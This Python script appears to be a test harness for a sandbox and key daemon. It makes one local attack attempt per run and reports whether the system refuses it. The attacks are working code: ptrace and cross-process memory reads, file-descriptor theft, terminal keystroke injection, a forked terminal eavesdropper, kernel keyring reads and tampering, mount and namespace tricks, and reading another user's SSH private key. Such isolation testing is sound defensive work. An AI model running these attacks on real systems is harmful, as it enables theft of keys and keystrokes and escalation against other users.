"""One attempt at somebody else: at a daemon, a robot or its files, from beside them or out
of a sandbox. Ends with status 99 when the attack succeeds, and with 0 when it is refused;
says how.

usage: attack.py ATTACK ARGUMENT…
"""
import ctypes
import errno
import fcntl
import os
import resource
import socket
import struct
import sys
import termios

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
NUMBERS = {
    "x86_64": dict(ptrace=101, process_vm_readv=310, process_vm_writev=311, keyctl=250, add_key=248, request_key=249, open_by_handle_at=304, name_to_handle_at=303,
                   ioctl=16, kcmp=312, get_robust_list=274, perf_event_open=298, shmat=30),
    "aarch64": dict(ptrace=117, process_vm_readv=270, process_vm_writev=271, keyctl=219, add_key=217, request_key=218, open_by_handle_at=265, name_to_handle_at=264,
                    ioctl=29, kcmp=272, get_robust_list=100, perf_event_open=241, shmat=196),
}[os.uname().machine]
# The same on every architecture.
NUMBERS.update(pidfd_open=434, pidfd_getfd=438, io_uring_setup=425, open_tree=428, move_mount=429, mount_setattr=442)


def call(name, *arguments):
    """A system call; its failure is an OSError."""
    result = libc.syscall(NUMBERS[name], *arguments)
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def libc_call(function, *arguments):
    if function(*arguments) < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


def read(path):
    with open(path, "rb") as file:
        if not file.read(1):
            raise OSError(errno.ENODATA, "there is nothing in it")


def read_open_file(number):
    """What whoever started this has open here."""
    if not os.pread(int(number), 1, 0):
        raise OSError(errno.ENODATA, "there is nothing in it")


def open_only(path):
    """For what opens and cannot be read from its beginning, such as another's memory."""
    os.close(os.open(path, os.O_RDONLY))


def open_to_write(path):
    os.close(os.open(path, os.O_WRONLY))


def list_directory(path):
    if not os.listdir(path):
        raise OSError(errno.ENODATA, "it is empty")


def follow(path):
    os.readlink(path)


def write(path):
    with open(path, "ab") as file:
        file.write(b"x")


def connect(path):
    socket.socket(socket.AF_UNIX).connect(path)


def abstract(name):
    socket.socket(socket.AF_UNIX).connect("\0" + name)


def tcp(port):
    socket.create_connection(("127.0.0.1", int(port)), timeout=5)


def vsock():
    """Whoever runs this machine as a virtual one: no network namespace is between."""
    socket.socket(40, socket.SOCK_STREAM).close()


def signal(pid):
    os.kill(int(pid), 0)


def limit(pid):
    """Few enough open files, and a program ends by itself."""
    _, hard = resource.prlimit(int(pid), resource.RLIMIT_NOFILE)
    resource.prlimit(int(pid), resource.RLIMIT_NOFILE, (hard, hard))


def freeze(pid):
    """A stopped process answers nobody, and keeps what it has."""
    os.kill(int(pid), 19)


def trace(pid):
    seize, detach = 0x4206, 17
    call("ptrace", seize, int(pid), 0, 0)
    os.kill(int(pid), 0)
    libc.syscall(NUMBERS["ptrace"], detach, int(pid), 0, 0)


def attach(pid):
    attach, detach = 16, 17
    call("ptrace", attach, int(pid), 0, 0)
    os.waitpid(int(pid), 0x40000000)
    libc.syscall(NUMBERS["ptrace"], detach, int(pid), 0, 0)


def vm(name):
    """Copies between our memory and another's. EFAULT would say that only the address was wrong."""
    class Iovec(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]

    def attempt(pid):
        here = ctypes.create_string_buffer(8)
        local = Iovec(ctypes.cast(here, ctypes.c_void_p), 8)
        remote = Iovec(4096, 8)
        try:
            one, none = ctypes.c_ulong(1), ctypes.c_ulong(0)
            call(name, int(pid), ctypes.byref(local), one, ctypes.byref(remote), one, none)
        except OSError as error:
            if error.errno != errno.EFAULT:
                raise
    return attempt


def compare_memory(pid):
    """Tells whether two processes share memory; asks for the right to look in."""
    own_memory = 1
    call("kcmp", os.getpid(), int(pid), own_memory, 0, 0)


def robust_list(pid):
    """An address in the other's memory."""
    call("get_robust_list", int(pid), ctypes.byref(ctypes.c_void_p()), ctypes.byref(ctypes.c_size_t()))


def sample(pid):
    """Samples where the other is, as a profiler does."""
    software, task_clock, exclude_kernel = 1, 1, 1 << 5
    attributes = ctypes.create_string_buffer(struct.pack("=IIQQQQQ", software, 64, task_clock, 0, 0, 0, exclude_kernel), 64)
    os.close(call("perf_event_open", attributes, int(pid), -1, -1, 0))


def allow_core(pid):
    """A core file of the other's, if it can be made to leave one."""
    try:
        resource.prlimit(int(pid), resource.RLIMIT_CORE, (1 << 20, 1 << 20))
    except ValueError as error:
        raise OSError(errno.EPERM, str(error))


def frame(payload):
    return struct.pack(">I", len(payload)) + payload


def ask_in_the_clear(path, question):
    """What any process of the user may ask a daemon, which answers with a status."""
    connection = socket.socket(socket.AF_UNIX)
    connection.settimeout(5)
    connection.connect(path)
    connection.sendall(frame(b"\x02" + question))
    answer = connection.recv(65536)
    if len(answer) < 5 or answer[4] != 2:
        raise OSError(errno.EPROTO, "it was not answered")
    return answer


def lock(path):
    ask_in_the_clear(path, b'"lock"')


def learn_a_name(path, name):
    if name.encode() not in ask_in_the_clear(path, b'"status"'):
        raise OSError(errno.ENODATA, "it names no key")


def speak_without_a_key(path, owner, rack):
    """Everything right but the key: a first message that nobody could have sealed."""
    attach = b"\x01" + bytes(16)
    hello = b"keyrack" + struct.pack(">BH", 1, 1) + bytes([len(owner)]) + owner.encode() + bytes.fromhex(rack) + attach
    connection = socket.socket(socket.AF_UNIX)
    connection.settimeout(5)
    connection.connect(path)
    connection.sendall(frame(b"\x01" + struct.pack(">H", len(hello)) + hello + os.urandom(96)))
    answer = connection.recv(65536)
    if len(answer) < 5 or answer[4] != 1:
        raise OSError(errno.EACCES, "refused in the clear")


def take_descriptor(pid):
    call("pidfd_getfd", call("pidfd_open", int(pid), 0), 0, 0)


def terminal(request):
    """Types a character into our own terminal."""
    def attempt():
        device = os.open("/dev/tty", os.O_RDWR)
        character = ctypes.create_string_buffer(b"#")
        call("ioctl", device, ctypes.c_ulong(request), character)
    return attempt


def io_uring():
    call("io_uring_setup", 1, ctypes.create_string_buffer(256))


def mount_over(path):
    libc_call(libc.mount, b"tmpfs", path.encode(), b"tmpfs", 0, None)


def unmount(path):
    libc_call(libc.umount2, path.encode(), 2)


def remount_writable(path):
    libc_call(libc.mount, None, path.encode(), None, 32 | 4096, None)


def uncover(home):
    """A copy of the mount below, without those that cover parts of it."""
    tree = call("open_tree", -100, home.encode(), 1)
    os.close(os.open(".ssh/id_ed25519_eve", os.O_RDONLY, dir_fd=tree))


def as_root_of_a_namespace(attempt):
    """The same as root of a user and a mount namespace of our own."""
    def inside(*arguments):
        new_user, new_mounts = 0x10000000, 0x00020000
        libc_call(libc.unshare, new_user | new_mounts)
        attempt(*arguments)
    return inside


def open_by_handle(path):
    handle = (ctypes.c_uint * 64)()
    handle[0] = 128
    mount_id = ctypes.c_int()
    call("name_to_handle_at", -100, path.encode(), handle, ctypes.byref(mount_id), 0)
    os.close(call("open_by_handle_at", os.open("/", os.O_RDONLY), handle, os.O_RDONLY))


def session_to_parent():
    call("keyctl", 18)


def persistent_ring():
    """Where Kerberos keeps tickets that outlive a session."""
    call("keyctl", 22, -1, -3)


def users_ring(name):
    """A key of the user's ring, by way of the ring's number, which anything of the user sees."""
    link, search, own_session, read_key = 8, 10, -3, 11
    failure = OSError(errno.ENOKEY, "no ring has it")
    with open("/proc/keys") as keys:
        rings = [int(line.split()[0], 16) for line in keys if " _uid." in line]
    for ring in rings:
        try:
            call("keyctl", link, ring, own_session)
            key = call("keyctl", search, own_session, b"user", name.encode(), 0)
            return call("keyctl", read_key, key, ctypes.create_string_buffer(4096), 4096)
        except OSError as error:
            failure = error
    raise failure


def change_users_ring():
    """Puts a key into the user's ring, or changes what is there, by the ring's number. The first
    that the kernel lets through counts."""
    with open("/proc/keys") as keys:
        ring = next(int(line.split()[0], 16) for line in keys if f" _uid.{os.getuid()}: " in line)
    attempts = [
        ("add_key", b"user", b"keyrack:tree", b"x", 1, ring),
        ("add_key", b"user", b"keyrack:tree", b"x", 1, -4),
        ("add_key", b"user", b"keyrack:tree", b"x", 1, -5),
        ("request_key", b"user", b"keyrack:tree", None, ring),
        # SETPERM, REVOKE, CLEAR, UNLINK, SET_TIMEOUT, INVALIDATE
        ("keyctl", 5, ring, 0x3F3F3F3F),
        ("keyctl", 3, ring),
        ("keyctl", 7, ring),
        ("keyctl", 9, ring, ring),
        ("keyctl", 15, ring, 1000),
        ("keyctl", 21, ring),
    ]
    refusals = []
    for attempt in attempts:
        try:
            return call(*attempt)
        except OSError as error:
            refusals.append(error)
    # One that the kernel refused for another reason would be let through another time.
    raise next((error for error in refusals if error.errno != errno.EPERM), refusals[0])


def read_key_by_number(name):
    """A key that a process of the user sees, and perhaps may read without holding it."""
    with open("/proc/keys") as keys:
        numbers = [int(line.split()[0], 16) for line in keys if f" {name}: " in line]
    if not numbers:
        raise OSError(errno.ENOKEY, "there is none")
    for number in numbers:
        call("keyctl", 11, number, ctypes.create_string_buffer(4096), 4096)


def shared_memory(number):
    call("shmat", int(number), None, 0)


def message_queue(number):
    libc_call(libc.msgctl, int(number), 2, ctypes.create_string_buffer(256))


def semaphores(number):
    libc_call(libc.semctl, int(number), 0, 12)


def overhear(path=None):
    """Leaves somebody behind who goes on reading what is typed on the terminal, and writes
    it to `overheard`."""
    import signal as signals
    import time
    try:
        terminal = os.open(path, os.O_RDONLY) if path else 0
    except OSError:
        terminal = -1
    if os.fork():
        while not os.path.exists("listening"):
            time.sleep(0.01)
        return
    signals.signal(signals.SIGHUP, signals.SIG_IGN)
    os.setsid()
    signals.alarm(20)
    open("listening", "w").close()
    try:
        heard = os.read(terminal, 100).decode() or "nothing"
    except OSError as error:
        heard = f"refused: {error.strerror}"
    with open("overheard.new", "w") as file:
        file.write(heard)
    os.rename("overheard.new", "overheard")
    os._exit(0)


def hard_link(path):
    os.link(path, "stolen")


def through_a_link(path):
    if os.path.lexists("link"):
        os.unlink("link")
    os.symlink(path, "link")
    write("link/x")


def through_a_descriptor(number):
    read(f"/proc/self/fd/{number}/.ssh/id_ed25519_eve")


def become_root():
    os.setuid(0)


def regain(path):
    """A setuid program that says who it runs as."""
    import subprocess
    if subprocess.run([path, "-u"], capture_output=True, text=True, check=True).stdout.strip() != "0":
        raise OSError(errno.EPERM, "it runs as its caller")


def control(path):
    """Writes what is there, so that a success does no harm."""
    with open(path, "r+") as file:
        text = file.read()
        file.seek(0)
        file.write(text)


ATTACKS = dict(
    read=read, read_open_file=read_open_file, open_only=open_only, open_to_write=open_to_write, follow=follow, list=list_directory, write=write, connect=connect,
    abstract=abstract, tcp=tcp, vsock=vsock, signal=signal, limit=limit, freeze=freeze, trace=trace, attach=attach, vm_read=vm("process_vm_readv"), vm_write=vm("process_vm_writev"),
    take_descriptor=take_descriptor, compare_memory=compare_memory, robust_list=robust_list, sample=sample, allow_core=allow_core,
    lock=lock, learn_a_name=learn_a_name, speak_without_a_key=speak_without_a_key, type_into_terminal=terminal(termios.TIOCSTI),
    type_into_terminal_in_64_bits=terminal(termios.TIOCSTI | 1 << 32), console=terminal(0x541C), io_uring=io_uring,
    mount_over=mount_over, unmount=unmount, remount_writable=remount_writable, uncover=uncover,
    mount_over_as_root=as_root_of_a_namespace(mount_over), unmount_as_root=as_root_of_a_namespace(unmount),
    uncover_as_root=as_root_of_a_namespace(uncover),
    open_by_handle=open_by_handle, open_by_handle_as_root=as_root_of_a_namespace(open_by_handle),
    session_to_parent=session_to_parent, persistent_ring=persistent_ring, users_ring=users_ring, change_users_ring=change_users_ring,
    read_key_by_number=read_key_by_number, shared_memory=shared_memory, message_queue=message_queue, semaphores=semaphores,
    overhear=overhear, hard_link=hard_link, through_a_link=through_a_link,
    through_a_descriptor=through_a_descriptor, become_root=become_root, regain=regain, control=control,
)

try:
    ATTACKS[sys.argv[1]](*sys.argv[2:])
except OSError as error:
    print(f"refused: {error.strerror}")
    sys.exit(0)
print("succeeded")
sys.exit(99)
